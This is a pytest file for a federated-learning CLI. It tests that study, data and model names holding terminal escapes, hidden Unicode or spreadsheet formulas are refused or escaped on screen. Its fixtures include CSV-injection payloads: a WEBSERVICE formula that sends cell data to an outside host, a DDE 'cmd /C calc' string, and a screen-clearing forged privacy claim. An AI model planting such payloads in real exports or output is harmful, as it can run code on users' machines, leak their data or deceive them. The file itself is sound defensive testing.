"""A coordinator that forges the approval page: names that clear the screen, hide, reorder, or pass for its sentences.

First every place that the coordinator names something in is read with such a name, which is refused. Then the check at
reading is taken away, and all that prints is played with the same names: nothing raw may come out.
"""

# ruff: noqa: F811
import ast
import io
import json
import logging
import re
import time
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pyarrow as pa
import pyarrow.parquet
import pytest
import tomli_w
from rich.live import Live
from rich.markup import escape
from rich.table import Table
from rich.text import Text
from syrupy.assertion import SnapshotAssertion

from fedct_flwr.cli import main, silo
from fedct_flwr.cli.output import echo
from fedct_flwr.cli.printed_rounds import PrintedRounds
from fedct_flwr.datasets.study_folder import StudyFolder, read_study
from fedct_flwr.hospital.agent import Agent
from fedct_flwr.models.model_file import load_model, save_model, suffix
from fedct_flwr.privacy.sheet import sheet
from fedct_flwr.privacy.spending import Spending
from fedct_flwr.report.live import Feed
from fedct_flwr.report.page import as_script, content, document
from fedct_flwr.report.summary import RunReader
from fedct_flwr.simulation import score_table, scoreboard
from fedct_flwr.text.console import SafeConsole
from fedct_flwr.text.printable import fault, json_text, printable, quoted
from fedct_flwr.types import ConfigError, DataError
from tests.cli.conftest import fedct, here, kit  # noqa: F401 - fixtures, which tests name as arguments
from tests.cli.model_process import read_here
from tests.cli.runner import Outcome
from tests.cli.silos import Kit
from tests.cli.test_silo_predict import train
from tests.models.test_model_file import description, trained
from tests.report.folders import add_round, add_scores, begin

Fedct = Callable[..., Outcome]

# One of each category, and some that show as nothing although they are letters or marks.
CHARS = ("\x1b", "\x07", "\x9b", "\u202e", "\u200b", "\u0378", "\ue000", "\u2028", "\u2029", "\u3164", "\ufe0f", "\n")
FORGED = "Differential privacy is guaranteed (epsilon 0.1)"
HOSTILE = (
    f"ill\x1b[2J\x1b[H\r\n{FORGED}\u202e\u2066\u200b\x9b\u2028\u2029\ue000\u0378\u3164e{'́' * 30}"
    "[bold red]loud[/bold red][link=https://example.org]here[/link]:warning:\\"
)
ROOT = Path(__file__).parents[2]
HIDDEN = {"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"}
READERS = ("config.settings", "datasets.schema", "datasets.study_folder")


def assert_plain(text: str) -> None:
    """No raw control or hidden character but line feeds, and no flood of marks."""
    raw = {char for char in text if char != "\n" and unicodedata.category(char) in HIDDEN}
    assert not raw, f"{raw} in {text!r}"
    assert "\u3164" not in text
    assert "́" * 5 not in text


def assert_inert(text: str) -> None:
    """Plain, markup shown as it was written, and no line that the name has begun."""
    assert_plain(text)
    assert not re.search(rf"^\s*{re.escape(FORGED)}", text, re.MULTILINE), text
    assert "⚠" not in text


def rewritten(folder: Path, **changes: Any) -> None:
    """Change keys of the study's ``study.toml``."""
    said = {"study": "hearts", "classes": ["healthy", "diseased"], **changes}
    (folder / "study.toml").write_text(tomli_w.dumps(said), encoding="utf-8")


def public_with(folder: Path, header: str = "age", value: str = "a") -> None:
    quote = '"{}"'.format
    text = f"{quote(header.replace(chr(34), ''))},ward\n50,{quote(value)}\n51,b\n"
    (folder / "public.csv").write_bytes(text.encode())


@pytest.fixture
def study(tmp_path: Path) -> Path:
    folder = tmp_path / "study"
    folder.mkdir()
    rewritten(folder)
    public_with(folder)
    return folder


@pytest.fixture
def unchecked(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Reading takes every name, as before."""
    with monkeypatch.context() as patch:
        for module in READERS:
            patch.setattr(f"fedct_flwr.{module}.fault", lambda name, longest=0: None)
        yield


# --- reading


@pytest.mark.parametrize("char", CHARS)
@pytest.mark.parametrize("place", ["classes.1", "public", "test-label", "column", "value", "study"])
def test_a_name_that_hides_something_is_refused_where_it_stands(study: Path, place: str, char: str) -> None:
    name = f"ill{char}ness"
    changes: dict[str, dict[str, Any]] = {
        "classes.1": {"classes": ["healthy", name]},
        "public": {"public": f"{name}.csv"},
        "test-label": {"test-file": "test.csv", "test-label": name},
        "study": {"study": name},
    }
    if place in changes:
        rewritten(study, **changes[place])
    elif place == "column":
        public_with(study, header=name)
    else:
        public_with(study, value=name)
    with pytest.raises((ConfigError, DataError)) as refused:
        read_study(study)
    said = str(refused.value)
    assert_plain(said)
    assert "\n" not in said
    where = "public.csv" if place in ("column", "value") else "study.toml"
    assert where in said
    if place in changes:
        assert said.startswith(f"{place} = ")
    if place != "study":  # names of studies have a pattern of their own
        assert f"U+{ord(char):04X}" in said
        assert "ask its author to" in said


@pytest.mark.parametrize(
    "name",
    [
        "x" * 257,
        "ill ",
        " ",
        "",
        "́ill",
        "i" + "́" * 5,
        '=WEBSERVICE("http://example.org/"&A2)',
        "+HYPERLINK(A2)",
        "@SUM(A1:A9)",
        "-1+cmd|' /C calc'!A0",
    ],
)
def test_a_class_with_another_fault_is_refused(study: Path, name: str, wording: SnapshotAssertion) -> None:
    rewritten(study, classes=["healthy", name])
    with pytest.raises(ConfigError) as refused:
        read_study(study)
    assert str(refused.value) == wording
    assert len(str(refused.value)) < 1000


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK ("http://example.org/"&A2)',
        r"='\\example.org\share\[a.xlsx]b'!A1",
        "+'http://example.org/[a.xlsx]b'!A1",
        "\uff1dHYPERLINK(A2)",
        # Where commas are decimal signs, a line is cut here, and this is a cell of its own.
        "ill;=WEBSERVICE(A2)",
    ],
)
def test_a_class_is_a_formula_in_no_spreadsheet(study: Path, name: str) -> None:
    rewritten(study, classes=["healthy", name])
    with pytest.raises(ConfigError, match="a spreadsheet would run it as a formula"):
        read_study(study)


@pytest.mark.parametrize("name", ["+", "-", "-1", "+ (weak)", "<=50K", "= 50", "a; b (c)"])
def test_a_class_with_a_sign_is_taken_where_no_spreadsheet_runs_it(study: Path, name: str) -> None:
    rewritten(study, classes=["healthy", name])
    assert read_study(study).config.classes == ("healthy", name)


def test_an_endless_class_keeps_nobody_at_work(study: Path) -> None:
    rewritten(study, classes=["healthy", "=" + "|" * 1_000_000])
    began = time.process_time()
    with pytest.raises(ConfigError, match="1,000,001 characters, and 256 are the most"):
        read_study(study)
    # It was minutes.
    assert time.process_time() - began < 20


@pytest.mark.parametrize("place", ["header", "value"])
def test_an_endless_name_in_the_public_set_is_refused_and_not_quoted_to_its_end(study: Path, place: str) -> None:
    public_with(study, **{place: "x" * 100_000})
    with pytest.raises(DataError, match="100,000 characters, and 256 are the most") as refused:
        read_study(study)
    assert len(str(refused.value)) < 1000


def test_files_of_a_folder_of_images_are_refused_by_their_names(study: Path) -> None:
    rewritten(study, public="images", **{"image-size": [2, 2]})
    (study / "images").mkdir()
    (study / "images" / "a\u202egnp.png").touch()
    with pytest.raises(DataError, match=r"the file 'a\\u202egnp\.png' in .*U\+202E.*ask the coordinator"):
        read_study(study)


@pytest.mark.parametrize("forged", [f"{FORGED}\n\x1b[2J", "x" * 100_000], ids=["hidden", "endless"])
def test_names_within_a_column_of_parquet_are_quoted_and_cut(study: Path, forged: str) -> None:
    rewritten(study, public="public.parquet")
    pyarrow.parquet.write_table(pa.table({"age": [{forged: 50}, {forged: 51}]}), study / "public.parquet")
    with pytest.raises(DataError, match=r"column 'age' of .* holds 'struct<.* more characters.*: turn it") as refused:
        read_study(study)
    assert_plain(str(refused.value))
    assert len(str(refused.value).replace(str(study), "")) < 200


@pytest.mark.parametrize(
    "content",
    [
        "study = " + "[" * 20_000,
        'study = "a"\nclasses = ["a", "b"]\npublic = "%s.csv"\n' % ("a" * 300),
        'study = "a"\nclasses = ["a", "b"]\nimage-size = [%s, 3]\n' % ("1" * 5_000),
        'study = "a"\nclasses = ["a", "b"]\nimage-size = [0x%s, 3]\n' % ("f" * 5_000),
    ],
    ids=["deep", "long", "a long number", "a long number in hexadecimal"],
)
def test_a_study_that_python_or_the_disk_cannot_take_is_refused_in_one_sentence(
    study: Path, content: str, wording: SnapshotAssertion
) -> None:
    (study / "study.toml").write_text(content)
    with pytest.raises(ConfigError) as refused:
        read_study(study)
    assert str(refused.value) == wording
    assert "\n" not in str(refused.value)
    assert len(str(refused.value)) < 1000


@pytest.mark.parametrize("key", ["superlink", "supernode"])
def test_an_address_that_hides_something_is_refused(fedct: Fedct, kit: Kit, key: str) -> None:
    kit.file.write_text(
        re.sub(
            rf'^{key} = ".*"', f'{key} = "good.example\u202e:8000"', kit.file.read_text("utf-8"), flags=re.MULTILINE
        ),
        "utf-8",
    )
    outcome = fedct("silo", "approve", kit.folder, "--yes", "--reason", "test")
    assert outcome.code == ConfigError.exit_code
    assert f"connection.{key} = 'good.example\\u202e:8000'" in outcome.sentence
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE)" in outcome.sentence


@pytest.mark.parametrize(
    "name",
    ["All keys were compared by telephone with the partners; nothing more is to be done", "", "clevel\u0430nd"],
    ids=["a sentence", "nothing", "a letter that looks alike"],
)
def test_a_key_is_listed_under_the_name_of_a_silo_alone(fedct: Fedct, kit: Kit, name: str) -> None:
    """The approval page lists names and fingerprints, and people decide by them whether a sum hides their silo."""
    path, keys = kit.folder / "study" / "study.toml", {"a": "x", name: "y"}
    path.write_text(f"{path.read_text('utf-8')}\n{tomli_w.dumps({'sums': {'keys': keys}})}", "utf-8")
    outcome = fedct("silo", "approve", kit.folder, "--yes", "--reason", "test")
    assert outcome.code == ConfigError.exit_code
    assert "[sums.keys] in" in outcome.sentence
    assert f"{quoted(name)} is no silo's name" in outcome.sentence


def test_a_surrogate_cannot_even_be_written(study: Path) -> None:
    (study / "study.toml").write_text('study = "a"\nclasses = ["a", "\\ud800"]\n')
    with pytest.raises(ConfigError, match="is not TOML"):
        read_study(study)


@pytest.mark.parametrize(
    "changes",
    [
        {"classes": ("a", "b\u202e", "c")},
        {"classes": ("a", "=F(A2)", "c")},
        {"columns": [("x\x1b", None)]},
        {"columns": [("x", None), ("y", None), ("z", ("p", "\u200b"))]},
    ],
)
@pytest.mark.filterwarnings("ignore")
def test_a_model_file_of_a_stranger_is_read_the_same_way(
    tmp_path: Path, changes: dict[str, Any], wording: SnapshotAssertion
) -> None:
    learner, transformer = trained("logistic-regression")
    path = tmp_path / f"global{suffix(learner)}"
    save_model(path, learner, transformer, description("logistic-regression", **changes))
    with pytest.raises(DataError) as refused:
        load_model(path)
    assert str(refused.value) == wording
    assert_plain(str(refused.value))


@pytest.mark.parametrize(
    "name",
    [
        "Männer",
        "β-Laktam",
        "健康",
        "संक्रमण",
        "مريض",
        "bệnh",
        "tha l",
        "ICD-10: E11.9 (type 2)",
        "-1",
        "+",
        "+ (weak)",
        "=0",
    ],
)
def test_names_of_all_languages_are_taken(study: Path, name: str) -> None:
    for form in ("NFC", "NFD"):
        written = unicodedata.normalize(form, name)
        rewritten(study, classes=["healthy", written])
        public_with(study, written, written)
        assert read_study(study).schema.classes[1] == written
        assert printable(written) == written


def test_what_was_approved_before_stays_approved(kit: Kit) -> None:
    assert kit.study.digest.hex() == "2503eda3c61fad8bbadddb164fb9ded5a0f541fcc7457454b99bac6fb8a6e15f"


def test_a_study_that_was_approved_with_such_a_name_asks_for_a_mended_one(
    fedct: Fedct,
    kit: Kit,
    monkeypatch: pytest.MonkeyPatch,
    wording: SnapshotAssertion,
) -> None:
    forge(kit)
    with monkeypatch.context() as patch:
        for module in READERS:
            patch.setattr(f"fedct_flwr.{module}.fault", lambda name, longest=0: None)
        assert fedct("silo", "approve", kit.folder, "--yes", "--reason", "test").code == 0
    outcome = fedct("silo", "start", kit.folder)
    assert outcome.code == ConfigError.exit_code
    assert outcome.sentence == wording


# --- printing


def forge(kit: Kit) -> None:
    """The study of the kit with a hostile class and a hostile column, and records that fit it."""
    path = kit.folder / "study" / "study.toml"
    path.write_text(path.read_text("utf-8").replace('"diseased"', json.dumps(HOSTILE)), "utf-8")
    kit.edit("\n\n[learner]", f"\n[data.mapping]\nhealthy = 'healthy'\ndiseased = {json.dumps(HOSTILE)}\n\n[learner]")
    column = '"' + HOSTILE.replace("\\", "") + '"'
    for file in (*(kit.folder / "study").glob("*.csv"), kit.source / "data.csv"):
        text = file.read_text("utf-8")
        assert text.startswith("age,")
        text = column + text.removeprefix("age")
        file.write_bytes((text.replace("diseased", '"' + HOSTILE + '"') if file.name == "test.csv" else text).encode())


@pytest.fixture
def forged(kit: Kit, unchecked: None, monkeypatch: pytest.MonkeyPatch) -> Kit:
    forge(kit)
    assert kit.study.schema.classes[1] == HOSTILE
    monkeypatch.setattr(StudyFolder, "name", property(lambda self: HOSTILE))
    return kit


SILO_COMMANDS: dict[str, list[tuple[str, ...]]] = {
    "approve": [("--yes", "--reason", "test"), ("--yes", "--reason", "test", "--json")],
    "check": [(), ("--details",), ("--json",), ("--offline", "--details")],
    "status": [(), ("--json",)],
    "verify": [(), ("--json",)],
    "metrics": [()],
    "overview": [(), ("--json",)],
    "revoke": [("--yes",)],
}
ELSEWHERE = {
    "init": "prints paths of its own, and refuses the study: test_init_refuses_the_study",
    "join": "prints what was signed, escaped, and names of the study and the silo that are refused at reading",
    "renew": "prints paths of its own",
    "rotate": "prints paths of its own",
    "notify": "prints and posts sentences of its own, with reasons of the silo's log",
    "audit": "prints numbers, and the name of the silo, which is refused at reading",
    "connect": "prints addresses, which are refused at reading",
    "start": "test_the_agent_says_nothing_raw",
    "carry": "prints paths of its own; it reads no study",
    "answer": "is the agent: test_the_agent_says_nothing_raw",
    "predict": "test_predictions_name_classes_plainly",
    "page": "serves HTML: test_no_name_or_reason_becomes_a_part_of_the_page",
}


def test_every_command_of_a_silo_is_played() -> None:
    assert {*silo.HELPS} == {*SILO_COMMANDS, *ELSEWHERE}


@pytest.mark.parametrize("command", SILO_COMMANDS)
@pytest.mark.filterwarnings("ignore")
def test_a_command_prints_nothing_raw(fedct: Fedct, forged: Kit, command: str) -> None:
    fedct("silo", "approve", forged.folder, "--yes", "--reason", "test")
    with forged.log() as log:
        log.append(forged.released(1, 228, 29))
    for options in SILO_COMMANDS[command]:
        outcome = fedct("silo", command, forged.folder, *options)
        assert outcome.code in (0, 1, 3), outcome.err
        assert outcome.out
        assert_inert(outcome.out)
        assert_inert(outcome.err)
        if "--json" in options:
            json.loads(outcome.out)


def test_init_refuses_the_study(fedct: Fedct, kit: Kit) -> None:
    rewritten(kit.source / "study", classes=["healthy", HOSTILE])
    outcome = fedct("silo", "init", kit.folder.with_name("new"), "--silo", "zurich", "--study", kit.source / "study",
                    "--data", kit.source / "data.csv", "--label", "class")  # fmt: skip
    assert outcome.code == ConfigError.exit_code
    assert_inert(outcome.sentence)
    assert not kit.folder.with_name("new").exists()


@pytest.mark.filterwarnings("ignore")
def test_the_page_quotes_classes_one_a_line_and_cuts_them(fedct: Fedct, kit: Kit) -> None:
    names = [f"a'. {FORGED}", f"b{' ' * 70}{FORGED}", f"c. {FORGED}, and every label that leaves has noise", "[bold]d"]
    path = kit.folder / "study" / "study.toml"
    classes = json.dumps(["healthy", "diseased", *names, *map(str, range(1000))])
    path.write_text(re.sub(r"^classes = .*?\]$", f"classes = {classes}", path.read_text("utf-8"), flags=re.M | re.S))
    outcome = fedct("silo", "approve", kit.folder, "--yes", "--reason", "test")
    assert outcome.code == 0, outcome.err
    lines = outcome.out.splitlines()
    assert len(lines) < 80
    assert max(map(len, lines)) <= 80
    said = " ".join(outcome.out.split())
    assert "Class 3 of 1,006: 'a\\'. Differential privacy is guaranteed (…' (12 more characters) Class 4" in said
    assert "  Class 6 of 1,006: '[bold]d'" in lines
    for line in lines:
        assert "Differential privacy is guaranteed" not in line or line.startswith("  Class ")
    assert "  And 986 more classes, which stand in study.toml in the study's folder" in lines


@pytest.mark.filterwarnings("ignore")
def test_the_page_says_which_findings_the_study_does_not_want_to_hear_of(fedct: Fedct, kit: Kit) -> None:
    path = kit.folder / "study" / "study.toml"
    plain = fedct("silo", "approve", kit.folder, "--yes", "--reason", "test")
    assert "takes these findings" not in plain.out
    path.write_text(f'{path.read_text("utf-8")}\n[tables]\naccept = ["public-records", "other-scale:chol"]\n')
    outcome = fedct("silo", "approve", kit.folder, "--yes", "--reason", "test")
    assert outcome.code == 0, outcome.err
    said = " ".join(outcome.out.split())
    assert "takes these findings on tables, this silo's too, for meant so: 'public-records', 'other-scale:chol'" in said


@pytest.mark.filterwarnings("ignore")
def test_predictions_name_classes_plainly(
    fedct: Fedct, forged: Kit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    read_here(monkeypatch)  # where the reading check is taken away
    monkeypatch.setattr(StudyFolder, "name", "hearts")  # models are files of this name
    train(forged)
    for options in ((), ("--json",)):
        outcome = fedct("silo", "predict", forged.folder / "study" / "public.csv", forged.folder, *options)
        assert outcome.code == 0, outcome.err
        assert_inert(outcome.out + outcome.err)
    learner, transformer = trained("logistic-regression")
    path = tmp_path / f"global{suffix(learner)}"
    classes = ("a", HOSTILE, "c")
    save_model(path, learner, transformer, description("logistic-regression", classes=classes))
    (tmp_path / "new.csv").write_text(f"x,y,z\n1,2,p\n3,4,{chr(0x202E)}\n", encoding="utf-8")
    for options in ((), ("--json",)):
        outcome = fedct("predict", tmp_path / "new.csv", "--model", path, *options)
        assert outcome.code == 0, outcome.err
        assert_plain(outcome.out.replace("\u202e", "") + outcome.err)  # records go into a pipe to the letter


def test_the_agent_says_nothing_raw() -> None:
    said: list[str] = []
    agent = Agent.__new__(Agent)
    agent._tell, agent._code_seen = said.append, ("", 0)
    agent._show_code(SimpleNamespace(run_id=1, code_hash=HOSTILE * 1000))  # type: ignore[arg-type]
    agent._say(f"study {HOSTILE}")
    assert len(said) == 2
    assert len(said[0]) < 1000
    assert "\n" not in "".join(said)
    assert_inert("\n".join(said))


def test_the_log_of_agent_and_coordinator_has_nothing_raw() -> None:
    said = io.StringIO()
    handler = logging.StreamHandler(said)
    logger = logging.getLogger("flwr.fedct")
    logger.addHandler(handler)
    try:
        logger.warning("Round %s: without %s: %s", 1, HOSTILE, HOSTILE)
        try:
            raise ValueError(HOSTILE.replace("\n", ""))
        except ValueError:
            logger.exception("Silo %s: an unexpected error", HOSTILE)
        logger.warning("%d", HOSTILE)
    finally:
        logger.removeHandler(handler)
    assert_inert(said.getvalue())
    assert "could not be put into words" in said.getvalue()
    assert "Traceback" in said.getvalue()


def test_every_module_logs_where_the_filter_is() -> None:
    for path in sources():
        for call in calls(path, "getLogger"):
            name = ast.unparse(call.args[0])
            assert name in ("'flwr.fedct'", "LOGGER_NAME", "name"), f"{path}: {name}"


def hostile_run(path: Path) -> RunReader:
    silos = (HOSTILE, "rome")
    folder = begin(path, silos, classes=HOSTILE, learner=HOSTILE)
    add_round(folder, 1, silos)
    add_round(folder, 2, silos[1:], absent={HOSTILE: HOSTILE})
    add_scores(folder, silos)
    folder.finish("failed", reason=HOSTILE)
    return RunReader(path)


def test_the_report_has_nothing_raw(tmp_path: Path) -> None:
    shown = content([hostile_run(tmp_path / "run").read()])
    page = document(shown)
    scripts = re.search(r'<script type="application/json" id="plots">(.*?)</script>', page, re.DOTALL)
    assert scripts
    assert HOSTILE not in page
    own = re.sub(r"<script>.*?</script>", "", page, flags=re.DOTALL)
    assert_plain(own)
    told = json.loads(Feed(tmp_path / "run").data()[1])
    for text in (*strings(json.loads(scripts[1])), *strings(told)):
        assert_plain(text)


def test_the_coordinators_table_has_nothing_raw(tmp_path: Path) -> None:
    hostile_run(tmp_path / "run")
    said = io.StringIO()
    console = SafeConsole(file=said, width=1000, emoji=False, highlight=False)
    folder = hostile_run(tmp_path / "again").folder
    watch = PrintedRounds(console, folder, console.status(""))
    watch._seen = 0
    watch()
    rows = scoreboard.reported(folder, (HOSTILE, "rome"))
    console.print(score_table.table(rows, "co-trained"))
    assert_plain(said.getvalue())
    assert "[bold red]loud[/bold red]" in said.getvalue().replace("\n", "")


def test_the_privacy_sheet_has_nothing_raw(forged: Kit, fedct: Fedct, tmp_path: Path) -> None:
    outcome = fedct("privacy-sheet", forged.folder)
    assert outcome.code == 0, outcome.err
    assert_plain(outcome.out)
    fedct("privacy-sheet", forged.folder, "--output", tmp_path / "sheet.md")
    assert_plain((tmp_path / "sheet.md").read_text("utf-8"))
    text = sheet(HOSTILE, forged.config.privacy.model_copy(update={"protection": "teachers"}), 10,
                 [Spending(whom=HOSTILE, budget=1.0, delta=1e-5)], simulated=False, metrics=False)  # fmt: skip
    assert_inert(text)


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from value
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


# --- the console, and that there is no way around it


def test_the_console_lets_its_own_styles_through_and_nothing_else() -> None:
    said = io.StringIO()
    console = SafeConsole(file=said, force_terminal=True, width=60, emoji=False, highlight=False)
    table = Table(HOSTILE, title=escape(HOSTILE))
    table.add_row(escape(HOSTILE), Text(HOSTILE))
    console.print(f"[bold]{escape(HOSTILE)}[/]", Text(HOSTILE, "red"), table)
    console.print(HOSTILE, markup=False)
    with Live(table, console=console, auto_refresh=False), console.status(escape(HOSTILE)):
        pass
    text = said.getvalue()
    assert "\x1b[1m" in text
    own = re.sub(r"\x1b\[(?:[0-9;]*m|\?25[lh]|\d*[AK])|\r", "", text)
    assert_plain(own)
    assert "\x1b]8" not in text


def test_a_long_escape_is_wrapped_like_the_text_that_it_is() -> None:
    said = io.StringIO()
    SafeConsole(file=said, width=40, emoji=False).print("\u202e" * 50)
    assert max(map(len, said.getvalue().splitlines())) <= 40


@pytest.mark.parametrize("terminal", [True, False])
def test_data_go_into_a_pipe_to_the_letter_and_to_a_terminal_escaped(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, terminal: bool
) -> None:
    monkeypatch.setattr("sys.stdout.isatty", lambda: terminal)
    echo("a\u202e\n", data=True)
    assert capsys.readouterr().out == ("a\\u202e\n" if terminal else "a\u202e\n")


def test_json_holds_the_same_in_escapes() -> None:
    text = json_text({HOSTILE: [HOSTILE, "\U000e0001", "Männer"]})
    assert_plain(text)
    assert json.loads(text) == {HOSTILE: [HOSTILE, "\U000e0001", "Männer"]}
    assert "Männer" in text


def test_an_unexpected_error_is_printed_plainly(capsys: pytest.CaptureFixture[str]) -> None:
    error = RuntimeError(HOSTILE)
    main._show_unexpected(RuntimeError, error, None)
    assert_plain(capsys.readouterr().err)


def sources() -> set[Path]:
    return {path for folder in ("fedct_flwr", "client_app", "server_app") for path in (ROOT / folder).rglob("*.py")}


def calls(path: Path, *names: str) -> Iterator[ast.Call]:
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Call) and ast.unparse(node.func).rpartition(".")[2] in names:
            yield node


def test_nothing_is_printed_past_the_console() -> None:
    """Outside of these files: no console of its own, no print and no echo but those, no write to a standard stream."""
    those = {ROOT / "fedct_flwr" / "cli" / "output.py", ROOT / "fedct_flwr" / "text" / "console.py"}
    # The image of a SuperNode has not the module that escapes. These two say sentences of their own, and numbers; what
    # the coordinator answers becomes one of ``link.Trouble`` before that.
    those |= {ROOT / "fedct_flwr" / "hospital" / f"{name}_supernode.py" for name in ("certified", "supervised")}
    for path in sources() - those:
        text = path.read_text("utf-8")
        assert "from rich import print" not in text, path
        for call in calls(path, "Console", "SafeConsole", "echo", "secho", "print", "write", "writelines"):
            name = ast.unparse(call.func)
            if name == "echo":
                assert "from fedct_flwr.cli.output import" in text, path
            elif name == "sys.stderr.write":
                assert "printable(" in ast.unparse(call), path
            else:
                assert not re.match(r"(rich|typer|click|sys)\.|(Safe)?Console$|s?echo$|print$", name), f"{path}: {name}"
        for call in calls(path, "Live", "Progress"):
            assert "console" in {keyword.arg for keyword in call.keywords}, f"{path}:{call.lineno}"


# --- the function itself


def test_what_is_refused_is_what_is_escaped() -> None:
    for code in (*range(0x3000), 0xFEFF, 0xFFFE, *range(0xD800, 0xD810), 0xE0001, 0x10FFFF):
        char = chr(code)
        if unicodedata.category(char) in HIDDEN:
            assert printable(char) != char
            assert f"U+{code:04X}" in (fault(char) or "")
        assert_plain(printable(char))
        assert_plain(quoted(char))
        assert printable(printable(char)) == printable(char)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u202eb", r"a\u202eb"), ("\x1b\x08\x0c\r\t", r"\x1b\x08\x0c\r\t"), ("Männer 健康 🙂", "Männer 健康 🙂"),
        (r"\u202e", r"\u202e"), ("\\\u202e", r"\\u202e"), ("\U000e0001", r"\U000e0001"), ("two\nlines", "two\nlines"),
    ],
)  # fmt: skip
def test_figures_show_escapes_in_place_of_hidden_characters(text: str, shown: str) -> None:
    assert json.loads(as_script({text: [text, 1.5]})) == {shown: [shown, 1.5]}
